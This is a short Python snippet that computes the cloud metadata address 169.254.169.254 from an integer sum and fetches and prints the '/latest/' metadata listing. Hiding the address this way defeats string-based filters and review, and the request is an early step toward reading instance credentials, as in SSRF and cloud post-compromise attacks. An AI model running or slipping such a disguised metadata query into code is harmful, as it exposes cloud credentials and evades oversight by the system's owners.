import socket, struct, urllib.request
host = socket.inet_ntoa(struct.pack("!I", 2851995904 + 43262))
print(urllib.request.urlopen("http://" + host + "/latest/").read())
